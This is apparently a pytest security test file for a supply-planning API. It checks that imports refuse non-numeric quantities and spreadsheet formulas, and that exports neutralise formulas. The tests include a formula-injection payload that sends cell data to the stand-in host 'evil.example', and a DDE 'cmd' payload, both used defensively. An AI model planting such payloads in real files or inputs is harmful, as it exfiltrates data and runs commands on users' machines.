"""OWASP API10:2023 Unsafe Consumption of APIs: what imported files may carry.

Spreadsheets and HXL tables come from other systems and people's desktops. Through the
upload routes: numbers that are not numbers (NaN, infinities, overflowing or huge
values, formulas) are refused with 422 naming the row and column, and nothing is
imported; text that a spreadsheet would run as a formula is refused in uploads (unless
escaped with an apostrophe) and, when it arrives by the JSON API, is neutralised in
every export: CSV and HXL get a leading apostrophe, XLSX a quote-prefixed text cell.
"""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook
from sqlalchemy.orm import Session

from app.catalogue.models import Item
from tests.security.world import build_world

pytestmark = pytest.mark.integration

BAD_QUANTITIES = [
    "NaN",
    "nan",
    "inf",
    "-Infinity",
    "1e309",
    "99999999999999999999",
    "=1+1",
    "@SUM(A1)",
    "5.5",
    "0x10",
    "",
]
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.mark.parametrize("quantity", BAD_QUANTITIES)
def test_a_number_that_is_not_a_quantity_imports_nothing(
    quantity: str, session: Session, client: TestClient
) -> None:
    world = build_world(session, client)
    item, location = world.ids["item"], world.ids["location"]
    table = (
        "item,location,quantity,need_by,priority,justification\n"
        f"{item},{location},5,2099-01-01,normal,fine\n"
        f'{item},{location},"{quantity}",2099-01-01,normal,bad\n'
    )
    url = f"/api/v1/rounds/{world.ids['open']}/needs"
    headers = world.headers("local_team/own")
    before = client.get(url, headers=headers).json()["total"]
    response = client.post(
        f"{url}/import", files={"file": ("n.csv", table.encode(), "text/csv")}, headers=headers
    )
    assert response.status_code == 422, response.text
    assert any(e["path"].startswith("row 3") for e in response.json()["errors"]), response.text
    assert client.get(url, headers=headers).json()["total"] == before


def test_nan_and_infinities_are_refused_in_json_bodies_too(
    session: Session, client: TestClient
) -> None:
    world = build_world(session, client)
    url = f"/api/v1/rounds/{world.ids['open']}/needs"
    for quantity in ("NaN", "Infinity", "-Infinity", "1e309"):
        body = (
            f'{{"item_id": "{world.ids["item"]}", "location_id": "{world.ids["location"]}", '
            f'"quantity": {quantity}, "need_by": "2099-01-01", "priority": "normal"}}'
        )
        response = client.post(
            url,
            content=body,
            headers=world.headers("local_team/own") | {"content-type": "application/json"},
        )
        assert response.status_code == 422, (quantity, response.text)
    solve = client.post(
        "/api/v1/solve",
        content=b'{"as_of": "2026-12-01", "currency": "USD", "settings": {"late_penalty_rate":'
        b" NaN}}",
        headers=world.headers("coordinator") | {"content-type": "application/json"},
    )
    assert solve.status_code == 422, solve.text


def test_a_formula_in_an_uploaded_cell_is_refused_unless_escaped(
    session: Session, client: TestClient
) -> None:
    world = build_world(session, client)
    url = f"/api/v1/rounds/{world.ids['open']}/needs/import"
    headers = world.headers("local_team/own")
    rows = f"{world.ids['item']},{world.ids['location']},5,2099-01-01,normal"
    refused = client.post(
        url,
        files={
            "file": (
                "f.csv",
                f"item,location,quantity,need_by,priority,justification\n"
                f'{rows},"{FORMULA.replace(chr(34), chr(34) * 2)}"\n'.encode(),
                "text/csv",
            )
        },
        headers=headers,
    )
    assert refused.status_code == 422, refused.text
    assert "formula" in refused.text


def test_formulas_that_came_in_by_the_api_are_neutralised_in_every_export(
    session: Session, client: TestClient
) -> None:
    world = build_world(session, client)
    # Text typed into the JSON API is stored as it is...
    need = client.post(
        f"/api/v1/rounds/{world.ids['open']}/needs",
        json={
            "item_id": world.ids["item"],
            "location_id": world.ids["location"],
            "quantity": 3,
            "need_by": "2099-01-01",
            "priority": "high",
            "justification": FORMULA,
            "submit": True,
        },
        headers=world.headers("local_team/own"),
    )
    assert need.status_code == 201, need.text
    assert need.json()["justification"] == FORMULA
    # ... and an HXL export a spreadsheet opens shows it as text.
    exported = client.get(
        f"/api/v1/rounds/{world.ids['open']}/needs.hxl.csv", headers=world.headers("coordinator")
    )
    assert exported.status_code == 200
    cells = [cell for row in csv.reader(io.StringIO(exported.text)) for cell in row]
    assert "'" + FORMULA in cells
    assert FORMULA not in cells


def test_a_formula_in_a_catalogue_name_is_text_in_the_plan_exports(
    session: Session, client: TestClient
) -> None:
    world = build_world(session, client)
    item = session.get(Item, world.ids["item"])
    assert item is not None
    item.name = "=cmd|' /C calc'!A0"
    session.commit()
    rerun = client.post(
        f"/api/v1/rounds/{world.ids['done']}/runs", headers=world.headers("coordinator")
    )
    assert rerun.status_code == 201, rerun.text
    run = rerun.json()["id"]
    headers = world.headers("chief_of_mission/other")

    workbook = load_workbook(
        io.BytesIO(client.get(f"/api/v1/runs/{run}/plan.xlsx", headers=headers).content)
    )
    risky = [
        c
        for ws in workbook
        for row in ws.iter_rows()
        for c in row
        if isinstance(c.value, str) and c.value.startswith(("=", "+", "-", "@"))
    ]
    assert all(c.data_type == "s" and c.quotePrefix for c in risky), [
        (c.coordinate, c.value) for c in risky if not c.quotePrefix
    ]
    archive = zipfile.ZipFile(
        io.BytesIO(client.get(f"/api/v1/runs/{run}/plan-csv.zip", headers=headers).content)
    )
    for name in archive.namelist():
        for row in csv.reader(io.StringIO(archive.read(name).decode("utf-8-sig"))):
            for cell in row:
                assert not cell.startswith(("=", "@")), (name, cell)
                if cell.startswith(("+", "-")):
                    float(cell)  # a signed number, not a formula
